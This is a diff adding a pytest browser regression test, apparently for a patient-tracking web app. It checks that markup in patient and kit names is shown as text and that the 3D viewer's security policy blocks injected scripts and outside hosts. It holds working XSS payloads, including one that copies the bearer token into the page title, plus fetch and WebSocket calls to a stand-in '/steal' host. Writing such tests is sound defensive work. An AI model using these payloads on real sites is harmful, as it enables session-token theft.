@@ -1,0 +1,204 @@
+"""Text that a user or a kit controls is shown as text everywhere (issue 17, item 2), and the
+3D view's page policy lets no injected script run or reach another host.
+
+The attack that worked: a patient named
+``<iframe srcdoc="<script>top.document.title=top.sessionStorage.getItem('armtrack.token')
+</script>">`` put the therapist's bearer token in the page's title, because the viewer
+passed the name to viser's markdown (which renders raw HTML) and the viewer page allowed
+inline scripts. Here the same names, kit names, target notes and recording metadata go
+through a real server into Debian's headless chromium: the dashboard pages and the 3D
+view (viser, in the session page's iframe) must show them literally, run none of them,
+and still draw the arm. Screenshots are saved (their folder is printed;
+``ARMTRACK_SCREENSHOTS`` chooses it)."""
+
+from __future__ import annotations
+
+import dataclasses
+import os
+import re
+import shutil
+import tempfile
+from pathlib import Path
+
+import httpx
+import pytest
+from server_support import ServerProcess
+
+CHROMIUM = os.environ.get("ARMTRACK_CHROMIUM") or shutil.which("chromium") or "/usr/bin/chromium"
+ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
+        "--disable-background-networking", "--disable-component-update", "--disable-sync"]
+
+#: What the attacker named the patient (the report's exact payload, then more). What an
+#: injected script would write ("pwned") is not in the text itself.
+STEAL = ("<iframe srcdoc=\"<script>top.document.title=top.sessionStorage.getItem("
+         "'armtrack.token')</script>\"></iframe>")
+IMG = "<img src=x onerror=\"top.document.title='pw'+'ned-img'\">"
+NAME = f"{STEAL}{IMG} **bold** $x$"
+KIT = "<svg onload=\"top.document.title='pw'+'ned-kit'\"></svg>kit"
+NOTE = "<script>top.document.title='pw'+'ned-note'</script>[link](javascript:alert(1))"
+
+
+def parse_csp(header: str) -> dict[str, list[str]]:
+    out = {}
+    for part in header.split(";"):
+        words = part.split()
+        if words:
+            out[words[0]] = words[1:]
+    return out
+
+
+@pytest.fixture(scope="module")
+def srv(tmp_path_factory):
+    server = ServerProcess(tmp_path_factory.mktemp("content"))
+    server.create_user("alice")
+    server.start(timeout=120)
+    yield server
+    server.stop()
+
+
+@pytest.fixture(scope="module")
+def hostile(srv):
+    """A patient, kit, target and uploaded session full of markup."""
+    from armtrack.estimator.recording import Mark, format_recording
+    from armtrack.estimator.simulation import SimulationConfig, simulate
+
+    api = srv.client("alice")
+    patient = api.patient(name=NAME)
+    api.device(patient["id"], name=KIT)
+    answer = api.http.put(f"/api/patients/{patient['id']}/targets/elbow_flexion",
+                          json={"min_deg": 0, "max_deg": 120, "note": NOTE})
+    assert answer.status_code == 200, answer.text
+    recording = simulate(SimulationConfig(exercise="elbow_flexion", seed=2,
+                                          repetitions=3)).recording
+    recording = dataclasses.replace(recording, marks=(Mark(9.0, "exercise:elbow_flexion"),),
+                                    metadata={"clinic": IMG, "formula": "=HYPERLINK(1)"})
+    text = format_recording(recording)
+    answer = api.http.post("/api/recordings", data={"patient_id": str(patient["id"])},
+                           files={"file": ("hostile.csv", text)})
+    assert answer.status_code == 201, answer.text
+    return api, patient, answer.json()
+
+
+def test_viewer_policy_allows_no_injected_script_and_no_other_host(srv, hostile):
+    api, patient, session = hostile
+    grant = api.http.post("/api/viewer", json={"patient_id": patient["id"],
+                                               "session_id": session["id"]}).json()
+    answer = httpx.get(srv.url + grant["url"])
+    assert answer.status_code == 200
+    header = answer.headers["content-security-policy"]
+    print(header)
+    csp = parse_csp(header)
+    script = csp["script-src"]
+    assert "'unsafe-inline'" not in script and "'unsafe-eval'" not in script, script
+    assert any(s.startswith("'sha256-") for s in script), script
+    for directive in ("connect-src", "script-src", "default-src", "img-src", "style-src",
+                      "font-src", "worker-src"):
+        for source in csp.get(directive, []):  # no other host, no bare scheme of sockets
+            assert source not in ("ws:", "wss:", "http:", "https:", "*"), (directive, source)
+    assert csp["frame-src"] == ["'none'"] and csp["object-src"] == ["'none'"]
+    assert csp["base-uri"] == ["'none'"] and csp["form-action"] == ["'none'"]
+
+
+# -- in a real browser -------------------------------------------------------------------
+
+@pytest.fixture(scope="module")
+def shots(tmp_path_factory) -> Path:
+    folder = Path(os.environ.get("ARMTRACK_SCREENSHOTS")
+                  or tmp_path_factory.mktemp("screenshots"))
+    folder.mkdir(parents=True, exist_ok=True)
+    print(f"\nscreenshots: {folder}")
+    return folder
+
+
+@pytest.fixture(scope="module")
+def browser():
+    if not Path(CHROMIUM).is_file():
+        pytest.skip(f"needs Debian's chromium at {CHROMIUM}")
+    sync_api = pytest.importorskip("playwright.sync_api", reason="needs Playwright")
+    with sync_api.sync_playwright() as playwright:
+        profile = tempfile.mkdtemp(prefix="armtrack-chromium-")
+        context = playwright.chromium.launch_persistent_context(
+            profile, executable_path=CHROMIUM, args=ARGS, headless=True,
+            viewport={"width": 1366, "height": 900})
+        try:
+            yield sync_api, context
+        finally:
+            context.close()
+            shutil.rmtree(profile, ignore_errors=True)
+
+
+def sign_in(sync_api, page, base: str) -> None:
+    from server_support import PASSWORD
+
+    page.goto(base + "/signin")
+    page.fill("#username", "alice")
+    page.fill("#password", PASSWORD)
+    page.click("#submit")
+    page.wait_for_url(re.compile(r".*/patients$"))
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("width", [1366, 390])
+def test_hostile_texts_are_shown_as_text_and_run_nothing(srv, hostile, browser, shots,
+                                                         width):
+    sync_api, context = browser
+    _, patient, session = hostile
+    page = context.new_page()
+    page.set_viewport_size({"width": width, "height": 900})
+    page.set_default_timeout(30_000)
+    violations: list[str] = []
+    page.on("console", lambda m: violations.append(m.text)
+            if "Content Security Policy" in m.text else None)
+    dialogs: list[str] = []
+    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+    try:
+        sign_in(sync_api, page, srv.url)
+        sync_api.expect(page.locator("#patients tbody")).to_contain_text("<iframe srcdoc=")
+        page.goto(f"{srv.url}/patients/{patient['id']}")
+        sync_api.expect(page.locator("h1")).to_have_text(NAME)
+        sync_api.expect(page.locator("#devices")).to_contain_text(KIT)
+        page.screenshot(path=str(shots / f"hostile-patient-{width}.png"), full_page=True,
+                        timeout=90_000)
+        page.goto(f"{srv.url}/sessions/{session['id']}")
+        frame = page.frame_locator("#viewer-frame")
+        canvas = frame.locator("canvas").first
+        sync_api.expect(canvas).to_be_visible(timeout=60_000)
+        # the panel's heading shows the name literally, markup and all
+        sync_api.expect(frame.locator("body")).to_contain_text(STEAL, timeout=30_000)
+        sync_api.expect(frame.locator("body")).to_contain_text("**bold** $x$")
+        page.wait_for_timeout(2000)  # time for anything injected to run
+        page.screenshot(path=str(shots / f"hostile-session-{width}.png"), full_page=True,
+                        timeout=90_000)
+        token = page.evaluate("sessionStorage.getItem('armtrack.token')")
+        assert token, "signed in: the page holds a token"
+        title = page.title()
+        print("title:", title, "| dialogs:", dialogs, "| CSP reports:", violations)
+        assert token not in title and "pwned" not in title, title
+        assert not dialogs
+        # nothing of the markup became elements in the 3D view or the page
+        assert frame.locator("iframe, img[src='x'], svg[onload]").count() == 0
+        assert page.locator("#viewer-frame").count() == 1
+        assert page.locator("iframe").count() == 1
+        assert not violations  # viser's own scripts, workers and socket need nothing else
+
+        # and were markup to slip through, the viewer's policy would not run it or let it
+        # reach another host
+        viewer = page.frame(url=re.compile(r".*/viewer/.*"))
+        assert viewer is not None
+        viewer.evaluate("""() => {
+            const div = document.createElement('div');
+            div.innerHTML = '<img src=x onerror="window.__ran_handler = true">';
+            document.body.appendChild(div);
+            const script = document.createElement('script');
+            script.textContent = 'window.__ran_script = true';
+            document.body.appendChild(script);
+            fetch('http://198.51.100.7/steal').catch(() => null);
+            try { new WebSocket('ws://198.51.100.7/steal'); } catch (e) { }
+        }""")
+        page.wait_for_timeout(1500)
+        assert viewer.evaluate("[window.__ran_handler, window.__ran_script]") == [None, None]
+        print("CSP reports after injecting:", violations)
+        assert any("script" in v for v in violations)
+        assert any("198.51.100.7" in v and "connect" in v for v in violations)
+    finally:
+        page.close()
